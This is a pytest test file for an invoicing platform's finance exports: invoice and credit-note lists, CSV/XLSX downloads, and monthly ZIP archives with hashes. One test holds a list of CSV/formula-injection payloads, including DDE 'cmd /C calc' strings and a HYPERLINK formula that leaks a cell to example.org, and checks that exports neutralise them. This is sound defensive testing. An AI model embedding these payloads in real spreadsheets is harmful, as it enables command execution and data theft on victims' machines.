"""What a finance lead takes to the finance package: the list, its files, and the documents of a month."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import uuid
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest

from invoicing.exports import queries
from invoicing.exports.layouts.rules import DELIMITERS
from invoicing.exports.layouts.shipped import shipped
from invoicing.exports.rules import Side, Wanted
from invoicing.invoices.rules import VatCategory
from marketplace.alliance.models import Organisation
from marketplace.core import clock
from marketplace.core.csv_files import safe
from marketplace.core.db import db, transaction
from marketplace.core.policy import Actor
from tests import make
from tests.make import School
from tests.web.client import Client

Browse = Callable[[Actor], Client]
pytestmark = pytest.mark.usefixtures("app")
HOSTILE = (
    "=1+1",
    "+44 20",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    " =1+1",
    "\u200b=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
)
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
NOVEMBER = datetime(2026, 11, 9, 10, tzinfo=UTC)


@pytest.fixture
def browse(client_for: Callable[[uuid.UUID | None], Client]) -> Browse:
    return lambda actor: client_for(actor.person_id)


@pytest.fixture
def schools() -> tuple[School, School]:
    """A school that is registered for VAT, and one that is not. Both can be paid."""
    alder, beech = make.alliance(2).schools
    make.payable_school(alder, vat_number=make.VAT_NUMBERS[0])
    make.payable_school(beech)
    return alder, beech


def issue(alder: School, beech: School) -> uuid.UUID:
    """An invoice of three lines, two of them standard-rated; its id."""
    with clock.travelling(NOVEMBER):
        return make.issued_invoice(
            alder,
            beech,
            make.line("33.34", "1", "Minibus", category=VatCategory.STANDARD),
            make.line("33.34", "1", "Driver", category=VatCategory.STANDARD),
            make.line("33.35", "1", "Lessons", category=VatCategory.EXEMPT, exemption_reason="Education"),
            purchase_order="PO 7",
        )


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def cells_of(content: bytes) -> list[Any]:
    book: Any = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_invoices_and_credit_notes_stand_in_one_list_that_adds_up(
    schools: tuple[School, School], browse: Browse
) -> None:
    alder, beech = schools
    assert "Nothing here yet" in browse(alder.bursar).get("/exports").words
    number = make.invoice(issue(alder, beech)).number
    note = make.credit_note(make.credit(alder, make.invoice(_id_of(alder)).id, {1: 3000})).number
    client = browse(alder.bursar)
    page = client.get("/exports")
    asked = len(client.statements)
    assert {number, note} <= set(page.links())
    assert "£64.03" not in page.words
    assert "£77.37" in page.words  # 113.37 less 36.00
    assert "-£36.00" in page.words
    page = browse(beech.finance_lead).get("/exports")
    assert "Received by us" in page.words
    assert note in page.links()
    only = browse(alder.bursar).get("/exports?shown=credit_notes&q=not+used")
    assert note in only.links()
    assert number not in only.links()
    assert "Nothing found" in browse(alder.bursar).get("/exports?shown=paid").words
    issue(alder, beech)
    client.get("/exports")
    assert len(client.statements) == asked <= 20, "questions to the database grow with the list"
    wrong = "since-day=2&since-month=12&since-year=2026&until-day=1&until-month=12&until-year=2026"
    refused = browse(alder.bursar).get(f"/exports?{wrong}", status=422)
    assert "the range is backwards" in refused.words
    for name in ("documents.csv", "lines.csv", "documents.xlsx"):
        assert "range is backwards" in browse(alder.bursar).get(f"/exports/{name}?{wrong}", status=422).words
        nothing = browse(alder.bursar).get(f"/exports/{name}?shown=paid", status=422)
        assert "There is no invoice or credit note in this list" in nothing.words


def _id_of(school: School) -> uuid.UUID:
    (found,) = queries.documents(db.session(), school.bursar, Wanted(Side.ISSUED))
    return found.id


def test_the_files_hold_numbers_and_dates_and_add_up_to_the_penny(
    schools: tuple[School, School], browse: Browse
) -> None:
    alder, beech = schools
    invoice = make.invoice(issue(alder, beech))
    client = browse(beech.finance_lead)
    (row,) = rows_of(client.download("/exports/documents.csv").data)
    assert (row["Number"], row["Issued"], row["Total"]) == (invoice.number, "2026-11-09", "113.37")
    lines = rows_of(client.download("/exports/lines.csv?q=PO+7").data)
    assert [line["VAT"] for line in lines] == ["6.67", "6.67", "0.00"]
    assert lines[2]["Why exempt"] == "Education"
    book: Any = openpyxl.load_workbook(io.BytesIO(client.download("/exports/documents.xlsx").data))
    heads, values = book["Documents"].iter_rows()
    named = dict(zip((cell.value for cell in heads), values, strict=True))
    assert named["Issued"].is_date
    assert named["Total"].value == 113.37
    assert named["Number"].data_type == "s"
    assert book["Lines"].max_row == 4
    for name in (f"{invoice.id}.csv", f"{invoice.id}.xlsx"):
        assert client.download(f"/exports/documents/{name}").data
    stranger = make.alliance(1, name="Others").schools[0]
    browse(stranger.finance_lead).get(f"/exports/documents/{invoice.id}.csv", status=404)
    assert "Nothing here yet" in browse(stranger.finance_lead).get("/exports").words


def test_the_zip_of_a_month_holds_every_document_its_index_and_the_hash_of_each_file(
    schools: tuple[School, School], browse: Browse
) -> None:
    alder, beech = schools
    invoice = make.invoice(issue(alder, beech))
    client = browse(alder.bursar)
    page = client.get("/exports/months?side=issued")
    answer = client.download(page.links()["Download the ZIP file of November 2026"])
    assert int(answer.headers["Content-Length"]) == len(answer.data)
    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == [
            f"{invoice.number}.pdf",
            f"{invoice.number}.xml",
            "index.csv",
            "SHA256SUMS",
        ]
        for line in archive.read("SHA256SUMS").decode().splitlines():
            sha256, name = line.split("  ")
            assert hashlib.sha256(archive.read(name)).hexdigest() == sha256
        (row,) = rows_of(archive.read("index.csv"))
        assert row["SHA-256 of the PDF"] == invoice.document_sha256
    received = browse(beech.bursar).download("/exports/months/2026-11.zip?side=received")
    assert received.data == answer.data
    nothing = client.get("/exports/months/2026-10.zip?side=issued", status=422)
    assert "No invoice or credit note was issued in October 2026" in nothing.words
    client.get("/exports/months/2026-13.zip", status=404)


def test_abuse_20_what_people_typed_is_no_formula_in_any_file_of_invoices(
    schools: tuple[School, School], browse: Browse
) -> None:
    alder, beech = schools
    with transaction() as session:
        for school in schools:
            session.get_one(Organisation, school.id).name = HOSTILE[0]
    with clock.travelling(NOVEMBER):
        invoice_id = make.issued_invoice(
            alder,
            beech,
            *(
                make.line(
                    "5.00",
                    description=text,
                    unit=text[:30],
                    category=VatCategory.EXEMPT,
                    exemption_reason=text,
                )
                for text in HOSTILE
            ),
            purchase_order=HOSTILE[2],
            note=HOSTILE[3],
        )
    make.credit(alder, invoice_id, {1: 100}, HOSTILE[4])
    client = browse(alder.bursar)
    files = ("documents.csv", "lines.csv", f"documents/{invoice_id}.csv")
    for path in (*(f"/exports/{file}" for file in files), "/invoices/list.csv?direction=issued"):
        text = client.download(path).data.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        risky = [
            cell for cell in cells if cell.strip(" \u200b").startswith(("=", "+", "@", "\uff1d", "\t", "\r"))
        ]
        assert not risky, path
        assert f"'{HOSTILE[0]}" in cells, path
        minus = [cell for cell in cells if cell.startswith("-")]
        assert all(cell.lstrip("-").replace(".", "").isdigit() for cell in minus), path
    for key, one in shipped().items():
        if one.layout.side is Side.ISSUED:
            content = client.download(f"/exports/layouts/shipped/{key}/file").data
            dialect = DELIMITERS[one.layout.delimiter]
            table = csv.reader(
                io.StringIO(content.decode(one.layout.encoding), newline=""), delimiter=dialect
            )
            assert not [
                cell for row in table for cell in row if safe(cell) != cell and not NUMBER.fullmatch(cell)
            ]
    for path in ("documents.xlsx", f"documents/{invoice_id}.xlsx"):
        found = cells_of(client.download(f"/exports/{path}").data)
        assert not [cell.coordinate for cell in found if cell.data_type == "f" or cell.hyperlink], path
        assert HOSTILE[0] in {cell.value for cell in found}, path
